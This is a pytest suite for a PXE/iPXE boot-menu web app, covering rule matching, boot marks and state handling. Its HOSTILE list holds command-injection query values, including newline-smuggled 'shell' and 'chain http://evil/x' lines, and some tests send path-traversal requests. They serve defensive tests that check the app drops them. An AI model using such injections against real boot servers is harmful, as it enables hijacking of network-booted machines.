"""The boot-menu WSGI app through WebTest with lint on (a write to
wsgi.errors fails a test unless it says expect_errors)."""

from __future__ import annotations

import pytest

from scgi_inetd.bootmenu.state import State
from tests.bootmenu_helpers import MAC, PXE_UUID, UUID, make_testapp, write_config

RULES = """
[[rules]]
name = "by-subnet"
match = { ip = "10.0.0.0/8" }
timeout = 3
variables = { role = "subnet" }

[[rules]]
name = "by-host"
match = { ip = "10.0.2.0/24" }
default = "install"
variables = { role = "host-net" }

[[rules]]
name = "by-mac"
match = { mac = "52-54-00-12-34-56" }
default = "memtest"
variables = { hostname = "db1" }

[[rules]]
name = "by-uuid"
match = { uuid = "12345678-1234-5678-9abc-def012345678" }
default = "rescue"
entries = ["rescue", "local"]

[[rules]]
name = "efi"
match = { platform = "efi", buildarch = "x86_64" }
timeout = 1
"""


@pytest.fixture
def app(tmp_path):
    return make_testapp(write_config(tmp_path, RULES))


def test_headers(app):
    response = app.get("/boot.ipxe")
    assert response.content_type == "text/plain"
    assert response.headers["Cache-Control"] == "no-store"


def test_chain_back_without_identity(app):
    text = app.get("/boot.ipxe").text
    assert text.startswith("#!ipxe\nchain boot.ipxe?")
    for setting in ("mac=${net0/mac:hexhyp}&", "${uuid}", "serial_hex=${serial:hexhyp}", "hostname_hex=${hostname:hexhyp}",
                    "${buildarch}", "${platform}", "manufacturer_hex=${manufacturer:hexhyp}",
                    "product_hex=${product:hexhyp}"):
        assert setting in text
    assert "http" not in text  # relative: nginx's $host drops the port


def test_default_menu_for_an_unknown_machine(app):
    text = app.get("/boot.ipxe?mac=52:54:00:00:00:01&ip=192.168.1.5").text
    assert "choose --default local --timeout 7000 selected || exit" in text
    assert "rules: none" in text
    assert "menu Menu for unnamed" in text


def test_precedence_most_specific_wins_per_setting(app):
    # by-mac (machine key) beats the ip rules for default; the /24 beats the /8
    # for variables; timeout comes from the only rule that sets it.
    text = app.get(f"/boot.ipxe?mac={MAC}&ip=10.0.2.15").text
    assert "rules: by-mac, by-host, by-subnet" in text
    assert "choose --default memtest --timeout 3000" in text
    assert "item install Install host-net" in text
    assert "host=db1" in text


def test_uuid_rule_beats_ip_and_limits_entries(app):
    text = app.get(f"/boot.ipxe?mac=52:54:00:00:00:02&uuid={UUID}&ip=10.0.2.15").text
    items = [line for line in text.splitlines() if line.startswith("item ")]
    assert items == ["item rescue rescue", "item local local"]
    assert "choose --default rescue --timeout 3000" in text
    assert "rules: by-uuid, by-host, by-subnet" in text


def test_equal_specificity_file_order(tmp_path):
    extra = RULES + '\n[[rules]]\nname = "late"\nmatch = { mac = "52:54:00:12:34:56" }\ndefault = "local"\n'
    text = make_testapp(write_config(tmp_path, extra)).get(f"/boot.ipxe?mac={MAC}").text
    assert "choose --default memtest" in text  # by-mac comes first in the file


def test_platform_rule(app):
    text = app.get("/boot.ipxe?mac=52:54:00:00:00:03&platform=efi&buildarch=x86_64&ip=172.16.0.1").text
    assert "--timeout 1000" in text and "rules: efi" in text
    text = app.get("/boot.ipxe?mac=52:54:00:00:00:03&platform=pcbios&buildarch=x86_64&ip=172.16.0.1").text
    assert "rules: none" in text


def test_ipxe_passthrough_and_variables(app):
    text = app.get(f"/boot.ipxe?mac={MAC}").text
    assert f"url=http://boot.example/files/preseed?mac={MAC} host=db1 ${{net0/ip}}" in text
    assert "sanboot iscsi:10.0.0.9::::iqn.x:52-54-00-12-34-56 || goto _failed" in text


# (hostile query, the query it must behave exactly like: invalid values dropped)
HOSTILE = [
    ("mac=52:54:00:12:34:56%0Ashell", "mac="),
    ("mac=52:54:00:12:34:56&hostname=db1%0Achain%20http://evil/x", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&hostname=db1%0D%0Aexit", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&hostname=db1%0A", f"mac={MAC}&hostname=db1"),
    ("mac=52:54:00:12:34:56&buildarch=x86_64%0Areboot", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&platform=efi%20||%20shell", f"mac={MAC}"),
    (f"mac=52:54:00:12:34:56&uuid={UUID}%0Ashell", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&ip=10.0.2.15%0Ashell", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&ip=10.0.2.15&ip=10.9.9.9", f"mac={MAC}&ip=10.0.2.15"),
    ("mac=52:54:00:12:34:56&hostname=%E2%80%A8shell", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&hostname=%24%7Bshell%7D", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&serial=%0Ashell&product=%0Ashell&manufacturer=%0Ashell", f"mac={MAC}"),
    ("mac=%0Ashell&hostname=a%0Ashell", "mac="),
    ("hostname=x%0A%23!ipxe%0Ashell", "mac="),
    ("mac=52%3A54%3A00%3A12%3A34%3A56%00", "mac="),
    ("mac=" + "a" * 10000, "mac="),
    ("mac=52:54:00:12:34:56&serial=A&B&C=%0D", f"mac={MAC}&serial=A"),
    # hex forms that do not decode to printable ASCII are dropped, never read as plain
    ("mac=52:54:00:12:34:56&hostname_hex=64-62-31-0a-73-68&serial_hex=0a", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&serial_hex=c3-a9&serial=S1", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&serial_hex=4&product_hex=zz&manufacturer_hex=", f"mac={MAC}"),
    ("mac=52:54:00:12:34:56&hostname_hex=24-7b-73-7d", f"mac={MAC}"),
]


@pytest.mark.parametrize("query, same_as", HOSTILE)
def test_hostile_values_are_dropped_never_written(app, query, same_as):
    text = app.get(f"/boot.ipxe?{query}").text
    assert text == app.get(f"/boot.ipxe?{same_as}").text
    assert all(line.isprintable() for line in text.splitlines())


@pytest.mark.parametrize("query, same_as", HOSTILE)
def test_hostile_values_never_reach_pxelinux_or_files(app, query, same_as):
    assert app.get(f"/files/preseed?{query}").text == app.get(f"/files/preseed?{same_as}").text
    cookie = query.replace("&", ";").replace("mac=", "_Syslinux_BOOTIF=01-").replace("ip=", "_Syslinux_ip=")
    clean = same_as.replace("&", ";").replace("mac=", "_Syslinux_BOOTIF=01-").replace("ip=", "_Syslinux_ip=")
    text = app.get("/pxelinux.cfg/default", headers={"Cookie": cookie}).text
    assert text == app.get("/pxelinux.cfg/default", headers={"Cookie": clean}).text
    assert all(line.isprintable() for line in text.splitlines())


def test_pxelinux_machine_without_rule_falls_back_to_default(app):
    cookie = "_Syslinux_BOOTIF=01-52-54-00-99-99-99;_Syslinux_ip=192.168.7.7%3A192.168.7.1"
    for name in ("7b000000-0000-0000-0000-000000000001", "01-52-54-00-99-99-99", "C0A80707", "C0A8070", "C0", "C"):
        app.get(f"/pxelinux.cfg/{name}", headers={"Cookie": cookie}, status=404)
    text = app.get("/pxelinux.cfg/default", headers={"Cookie": cookie}).text
    assert "DEFAULT local" in text and "TIMEOUT 70" in text and "MENU TITLE Menu for unnamed" in text


def test_pxelinux_first_name_matches_through_the_byte_swapped_uuid(app):
    text = app.get(f"/pxelinux.cfg/{PXE_UUID}").text
    assert "rules: by-uuid" in text and "DEFAULT rescue" not in text  # shell is iPXE only
    assert "LABEL local" in text and "LABEL rescue" not in text


def test_pxelinux_cookie_identifies_default_request(app):
    cookie = "_Syslinux_ip=10.0.2.15%3A10.0.2.2;_Syslinux_BOOTIF=01-52-54-00-12-34-56"
    text = app.get("/pxelinux.cfg/default", headers={"Cookie": cookie}).text
    assert "rules: by-mac, by-host, by-subnet" in text
    assert "DEFAULT memtest" in text and "TIMEOUT 30" in text
    assert "LINUX http://boot.example/memtest86+.bin" in text


def test_pxelinux_ip_name_matches_cidr(app):
    text = app.get("/pxelinux.cfg/0A00020F").text
    assert "rules: by-host, by-subnet" in text and "DEFAULT install" in text
    assert "INITRD http://boot.example/initrd.gz,http://boot.example/extra.gz" in text


@pytest.mark.parametrize("name", ["../default", "menu.c32", "01-52-54-00-12-34", "0A00020F00", "", "DEFAULT"])
def test_pxelinux_unknown_names(app, name):
    app.get(f"/pxelinux.cfg/{name}", status=404)


def test_one_uuid_one_machine_in_inventory(tmp_path):
    path = write_config(tmp_path, RULES)
    app = make_testapp(path)
    app.get(f"/boot.ipxe?mac={MAC}&uuid={UUID}")
    app.get(f"/pxelinux.cfg/{PXE_UUID}", headers={"Cookie": "_Syslinux_BOOTIF=01-52-54-00-12-34-56;_Syslinux_SYSUUID=" + PXE_UUID})
    hosts = State(str(tmp_path / "state.sqlite")).hosts()
    assert [(h["mac"], h["uuid"], h["via"]) for h in hosts] == [(MAC, UUID, "pxelinux")]


def test_files(app):
    assert app.get(f"/files/preseed?mac={MAC}").text == (
        "d-i netcfg/get_hostname string db1\nd-i mirror/http/hostname string boot.example\n")
    assert "string unnamed" in app.get("/files/preseed").text
    app.get("/files/nope", status=404)
    app.get("/files/../bootmenu.toml", status=404)


def test_one_shot_mark(tmp_path):
    path = write_config(tmp_path, RULES)
    app = make_testapp(path)
    State(str(tmp_path / "state.sqlite")).set_mark(MAC, "install", False)
    first = app.get(f"/boot.ipxe?mac={MAC}").text
    assert first.split("\n")[2] == "goto install"
    second = app.get(f"/boot.ipxe?mac={MAC}").text
    assert "goto install" not in second and "choose --default memtest" in second
    assert State(str(tmp_path / "state.sqlite")).hosts()[0]["entry"] == "memtest"


def test_mark_shows_a_hidden_entry_and_pxelinux_boots_at_once(tmp_path):
    path = write_config(tmp_path, RULES)
    app = make_testapp(path)
    State(str(tmp_path / "state.sqlite")).set_mark("52:54:00:00:00:09", "memtest", False)
    cookie = "_Syslinux_BOOTIF=01-52-54-00-00-00-09"
    text = app.get("/pxelinux.cfg/01-52-54-00-00-00-09", headers={"Cookie": cookie}).text  # no rule, but a mark
    assert "DEFAULT memtest\nPROMPT 0\n" in text and "UI " not in text
    app.get("/pxelinux.cfg/01-52-54-00-00-00-09", headers={"Cookie": cookie}, status=404)


def test_until_done(tmp_path):
    path = write_config(tmp_path, RULES)
    app = make_testapp(path)
    State(str(tmp_path / "state.sqlite")).set_mark(MAC, "install", True)
    for _ in range(3):
        assert "\ngoto install\n" in app.get(f"/boot.ipxe?mac={MAC}").text
    assert app.get(f"/done?mac={MAC.replace(':', '-')}").text == f"cleared {MAC}: install\n"
    assert "\ngoto install\n" not in app.get(f"/boot.ipxe?mac={MAC}").text
    assert app.get(f"/done?mac={MAC}").text == f"no mark for {MAC}\n"
    app.get("/done?mac=nope", status=400)
    app.get("/done", status=400)


def test_mark_for_a_removed_entry_is_ignored(tmp_path):
    path = write_config(tmp_path, RULES)
    State(str(tmp_path / "state.sqlite")).set_mark(MAC, "gone", False)
    assert "goto gone" not in make_testapp(path).get(f"/boot.ipxe?mac={MAC}").text


def test_invalid_config_gives_500_and_one_log_line(tmp_path):
    path = write_config(tmp_path)
    app = make_testapp(path)
    app.get(f"/boot.ipxe?mac={MAC}")
    path.write_text(path.read_text().replace('default = "local"', 'default = "windows"'))
    for url in ("/boot.ipxe", f"/boot.ipxe?mac={MAC}", "/pxelinux.cfg/default", "/files/preseed"):
        response = app.get(url, status=500, expect_errors=True)
        assert "ipxe" not in response.text and "LABEL" not in response.text
        logged = response.errors
        assert logged.count("\n") == 1 and "menu.default: dangling default" in logged


def test_missing_state_database_gives_503(tmp_path):
    path = write_config(tmp_path, init=False)
    response = make_testapp(path).get(f"/boot.ipxe?mac={MAC}", status=503, expect_errors=True)
    assert response.errors.count("\n") == 1 and "state database" in response.errors
    assert not (tmp_path / "state.sqlite").exists()
    make_testapp(path).get("/boot.ipxe")  # the chain-back script needs no state


def test_locked_state_database(tmp_path):
    """Under a held write lock: a machine with a one-shot mark gets 503 (never
    a menu without its mark); one without a mark never touches SQLite, gets
    its menu, and is in the inventory once the queue is folded."""
    import sqlite3

    path = write_config(tmp_path, timeout=0.05)
    State(str(tmp_path / "state.sqlite")).set_mark(MAC, "install", False)
    holder = sqlite3.connect(tmp_path / "state.sqlite", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        response = make_testapp(path).get(f"/boot.ipxe?mac={MAC}", status=503, expect_errors=True)
        assert "locked" in response.errors and response.errors.count("\n") == 1
        response = make_testapp(path).get("/boot.ipxe?mac=52:54:00:00:00:07")
        assert "choose --default local" in response.text
    finally:
        holder.execute("ROLLBACK")
    assert "\ngoto install\n" in make_testapp(path).get(f"/boot.ipxe?mac={MAC}").text
    hosts = State(str(tmp_path / "state.sqlite")).hosts()
    assert sorted((host["mac"], host["entry"]) for host in hosts) == [("52:54:00:00:00:07", "local"), (MAC, "install")]


def test_mark_flags_follow_the_marks(tmp_path):
    from scgi_inetd.bootmenu.state import may_have_mark

    path = write_config(tmp_path, RULES)
    state_path = str(tmp_path / "state.sqlite")
    state = State(state_path)
    assert not may_have_mark(state_path, MAC)
    state.set_mark(MAC, "install", False)
    assert may_have_mark(state_path, MAC)
    make_testapp(path).get(f"/boot.ipxe?mac={MAC}")
    assert not may_have_mark(state_path, MAC) and state.peek(MAC) is None
    state.set_mark(MAC, "install", True)
    make_testapp(path).get(f"/boot.ipxe?mac={MAC}")
    assert may_have_mark(state_path, MAC)
    make_testapp(path).get(f"/done?mac={MAC}")
    assert not may_have_mark(state_path, MAC)
    state.set_mark(MAC, "install", True)
    (tmp_path / "state.sqlite.marks" / MAC.replace(":", "-")).unlink()  # as after a crash
    state.sync_flags()
    assert may_have_mark(state_path, MAC)


def test_inventory_queue_is_folded_when_big(tmp_path, monkeypatch):
    from scgi_inetd.bootmenu import state as state_module

    path = write_config(tmp_path)
    monkeypatch.setattr(state_module, "FOLD_AT", 120)
    app = make_testapp(path)
    for i in range(6):
        app.get(f"/boot.ipxe?mac=52:54:00:00:01:{i:02x}")
    assert (tmp_path / "state.sqlite.seen").stat().st_size <= 120
    import sqlite3

    count = sqlite3.connect(tmp_path / "state.sqlite").execute("SELECT count(*) FROM hosts").fetchone()[0]
    assert count >= 3


def test_other_methods_and_paths(app):
    response = app.post("/boot.ipxe", status=405)
    assert response.headers["Allow"] == "GET, HEAD"
    app.get("/", status=404)
    app.get("/boot.ipxe/x", status=404)


SERIAL_RULES = RULES + """
[[rules]]
name = "by-product"
match = { manufacturer = "QEMU", product = "Standard PC (Q35 + ICH9, 2009)" }
default = "install"
"""


def test_head_is_get_without_body_and_changes_nothing(tmp_path):
    path = write_config(tmp_path, RULES)
    app = make_testapp(path)
    state = State(str(tmp_path / "state.sqlite"))
    state.set_mark(MAC, "install", False)
    for url in ("/boot.ipxe", f"/boot.ipxe?mac={MAC}", "/pxelinux.cfg/default", f"/pxelinux.cfg/01-{MAC.replace(':', '-')}",
                f"/files/preseed?mac={MAC}", f"/done?mac={MAC}", "/nothing", "/done"):
        head = app.head(url, expect_errors=True)
        assert head.body == b"", url
        get = app.get(url, expect_errors=True) if url.startswith(("/nothing", "/done")) else None
        if get is not None:
            assert (head.status, head.headers["Content-Length"]) == (get.status, get.headers["Content-Length"]), url
            state.set_mark(MAC, "install", False)
    assert state.peek(MAC) == ("install", False)
    head = app.head(f"/boot.ipxe?mac={MAC}")
    assert not (tmp_path / "state.sqlite.seen").exists() or MAC not in (tmp_path / "state.sqlite.seen").read_text()
    get = app.get(f"/boot.ipxe?mac={MAC}")
    assert "goto install" in get.text and head.headers["Content-Length"] == str(len(get.body))
    assert state.peek(MAC) is None


# Serials and products as SMBIOS may hold them: iPXE's :uristring sent these
# with a literal '+', '&' or '#', read back wrong; the hex form reads exactly.
IDENTITY_TABLE = ["SN 1", "AB+12", "A&B", "50%", "#7", "a=b", "Standard PC (Q35 + ICH9, 2009)", " x ", "~!@$^*()[]{}|\\;:'\",<.>/?`"]


@pytest.mark.parametrize("serial", IDENTITY_TABLE)
def test_free_form_values_survive_the_chain_back(tmp_path, serial):
    escaped = serial.replace("\\", "\\\\").replace('"', '\\"')
    path = write_config(tmp_path, RULES + f"""
[[rules]]
name = "by-serial"
match = {{ serial = "{escaped}" }}
default = "install"
""")
    app = make_testapp(path)
    encoded = serial.encode().hex("-")
    text = app.get(f"/boot.ipxe?mac=52:54:00:00:00:01&serial_hex={encoded}").text
    assert "rules: by-serial" in text and text.splitlines()[-0] == "#!ipxe"
    other = app.get(f"/boot.ipxe?mac=52:54:00:00:00:01&serial_hex={encoded}-41").text
    assert "by-serial" not in other


def test_manufacturer_and_product_match(tmp_path):
    app = make_testapp(write_config(tmp_path, SERIAL_RULES))
    product = "Standard PC (Q35 + ICH9, 2009)".encode().hex("-")
    text = app.get(f"/boot.ipxe?mac=52:54:00:00:00:02&manufacturer_hex=51-45-4d-55&product_hex={product}").text
    assert "rules: by-product" in text
    text = app.get(f"/boot.ipxe?mac=52:54:00:00:00:02&manufacturer_hex=51-45-4d-55").text
    assert "by-product" not in text
